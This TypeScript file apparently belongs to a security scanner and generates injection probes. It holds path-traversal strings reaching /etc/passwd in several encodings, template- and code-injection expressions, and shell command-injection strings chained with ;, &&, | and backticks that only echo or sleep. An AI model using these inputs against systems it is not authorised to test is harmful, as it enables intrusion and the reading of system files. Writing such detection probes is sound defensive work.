/** Factors of a product that does not occur by chance. */
const FACTORS = [7919, 6841] as const;
const OTHER_FACTORS = [7907, 6833] as const;

/** A payload with the sign that reveals its effect. */
export interface Payload {
  readonly form: string;
  readonly text: string;
  readonly control: string;
  /** Appears in a response only if the payload took effect. */
  readonly sign: string;
}

/** Techniques by which a path leaves its base folder. */
export type EscapeKind = 'absolute' | 'dot-dot' | 'encoded' | 'sibling' | 'symlink';

/** A path that leaves its base folder. */
export interface EscapePath {
  readonly kind: EscapeKind;
  readonly text: string;
}

/** Matches the content of `/etc/passwd`. */
export const USERS_SIGN = /\broot:[^:\n]*:0:0:/;

/** Paths to a file that exists on every Unix machine and is readable by everyone. */
export const ESCAPE_PATHS: readonly EscapePath[] = [
  { kind: 'absolute', text: '/etc/passwd' },
  { kind: 'absolute', text: 'file:///etc/passwd' },
  { kind: 'dot-dot', text: '../../../../../../../../etc/passwd' },
  { kind: 'dot-dot', text: '....//....//....//....//....//....//....//etc/passwd' },
  { kind: 'dot-dot', text: '..\\..\\..\\..\\..\\..\\..\\etc\\passwd' },
  { kind: 'dot-dot', text: './../../../../../../../../../etc/passwd' },
  { kind: 'encoded', text: '..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { kind: 'encoded', text: '%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd' },
  // Full-width characters that Unicode normalisation turns into ASCII.
  { kind: 'encoded', text: '\uff0e\uff0e\uff0f'.repeat(8).concat('etc\uff0fpasswd') },
  { kind: 'encoded', text: '..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd' },
];

/** Leading text of the payloads for one slot. */
export interface PayloadHead {
  readonly text: string;
  /** True if the slot may name a resource; then nothing may precede the head. */
  readonly isNaming: boolean;
}

/** Returns arithmetic payloads; their evaluation is a defect unless the tool offers arithmetic. */
export function arithmeticPayloads({ text: head, isNaming }: PayloadHead): readonly Payload[] {
  const alone = head === 'x' ? '' : head;
  return renderPayloads({
    ...(isNaming || alone !== '' ? {} : { sum: (a, b) => `${a}*${b}` }),
    braces: (a, b) => `${alone}{{${a}*${b}}}`,
    dollar: (a, b) => `${alone}$\{${a}*${b}}`,
    percent: (a, b) => `${alone}<%= ${a}*${b} %>`,
    hash: (a, b) => `${alone}#{${a}*${b}}`,
    single: (a, b) => `${alone}{${a}*${b}}`,
    square: (a, b) => `${alone}[[${a}*${b}]]`,
    at: (a, b) => `${alone}@(${a}*${b})`,
    modulo: (a, b) => `${alone}%{${a}*${b}}`,
    statement: (a, b) => `${alone}{% print ${a}*${b} %}`,
  });
}

/** Returns code payloads that no calculator accepts. The head is embedded as an inert text. */
export function codePayloads({ text: head, isNaming }: PayloadHead): readonly Payload[] {
  const quotes: PayloadTemplates = {
    quote: (a, b) => `${head === 'x' ? '' : head}'+(${a}*${b})+'`,
    doubleQuote: (a, b) => `${head === 'x' ? '' : head}"+(${a}*${b})+"`,
  };
  if (isNaming) return renderPayloads(quotes);
  const own = head === 'x' ? '' : `"${head}"`;
  const more = own === '' ? '' : `,${own}`;
  return renderPayloads({
    call: (a, b) => `(()=>${a}*${b})(${own})`,
    list: (a, b) => (own === '' ? `[${a},${b}]` : `[${a},${b}${more}].slice(0,2)`) + REDUCE_PRODUCT,
    builder: (a, b) => `[].constructor.constructor('return ${a}*${b}')(${own})`,
    text: (a, b) => `String(${a}*${b}${more})`,
    math: (a, b) => `Math.imul(${a},${b}${more})`,
    lambda: (a, b) => `(lambda *x: ${a}*${b})(${own})`,
    import: (a, b) => `__import__('math').prod([${a},${b}${own === '' ? '' : `,len([${own}])`}])`,
    ...quotes,
  });
}

const REDUCE_PRODUCT = '.reduce((x,y)=>x*y)';

/** A code condition observed only by its truth: true for two number pairs, false for one. */
export interface ConditionPayload {
  readonly holds: string;
  readonly holdsToo: string;
  readonly fails: string;
}

/**
 * Returns code conditions that no calculator or filter evaluates. They omit the product itself, so
 * that stored input is not mistaken for an effect.
 */
export function conditionPayloads({
  text: head,
  isNaming,
}: PayloadHead): readonly ConditionPayload[] {
  if (isNaming) return [];
  const own = head === 'x' ? '' : `"${head}"`;
  return [
    (claim: string) => `(()=>${claim})(${own})`,
    (claim: string) => `(lambda *x: ${claim})(${own})`,
    (claim: string) => `[1].some(()=>${claim}${own === '' ? '' : `,${own}`})`,
  ].map((write) => {
    const [[a, b], [c, d]] = [FACTORS, OTHER_FACTORS];
    return {
      holds: write(`${a}*${b}+1==${a * b + 1}`),
      holdsToo: write(`${c}*${d}+1==${c * d + 1}`),
      fails: write(`${a}*${b}+1==${a * b + 3}`),
    };
  });
}

/** Returns shell commands with a visible result. They only run echo and expr. */
export function shellPayloads({ text: head, isNaming }: PayloadHead): readonly Payload[] {
  const before = head === 'x' ? '' : head;
  return renderPayloads({
    next: (a, b) => `${head}; echo $((${a}*${b}))`,
    and: (a, b) => `${head} && echo $((${a}*${b}))`,
    or: (a, b) => `${head} || echo $((${a}*${b}))`,
    pipe: (a, b) => `${head} | echo $((${a}*${b}))`,
    substitution: (a, b) => `${before}$(echo $((${a}*${b})))`,
    backtick: (a, b) => `${before}\`expr ${a} \\* ${b}\``,
    line: (a, b) => `${head}\necho $((${a}*${b}))`,
    quote: (a, b) => `${head}'; echo $((${a}*${b})); '`,
    doubleQuote: (a, b) => `${head}"; echo $((${a}*${b})); "`,
    ...(isNaming
      ? {}
      : { plain: (a, b) => `echo $((${a}*${b}))${before === '' ? '' : ` ${before}`}` }),
  });
}

/** Returns commands observed by their duration, as functions of the seconds. They only sleep. */
export function delayPayloads({
  text: head,
  isNaming,
}: PayloadHead): readonly ((seconds: number) => string)[] {
  const before = head === 'x' ? '' : head;
  return [
    (seconds) => `${head}; sleep ${seconds}`,
    (seconds) => `${before}$(sleep ${seconds})`,
    (seconds) => `${head} | sleep ${seconds}`,
    (seconds) => `${head} && sleep ${seconds}`,
    (seconds) => `${head} || sleep ${seconds}`,
    (seconds) => `${before}\`sleep ${seconds}\``,
    (seconds) => `${head}\nsleep ${seconds}`,
    (seconds) => `${head}'; sleep ${seconds}; '`,
    (seconds) => `${head}"; sleep ${seconds}; "`,
    ...(isNaming
      ? []
      : [(seconds: number) => `sleep ${seconds}${before === '' ? '' : ` # ${before}`}`]),
  ];
}

type PayloadTemplates = Readonly<Record<string, (a: number, b: number) => string>>;

function renderPayloads(makers: PayloadTemplates): readonly Payload[] {
  const [a, b] = FACTORS;
  const [c, d] = OTHER_FACTORS;
  return Object.entries(makers).map(([form, make]) => ({
    form,
    text: make(a, b),
    control: make(c, d),
    sign: String(a * b),
  }));
}
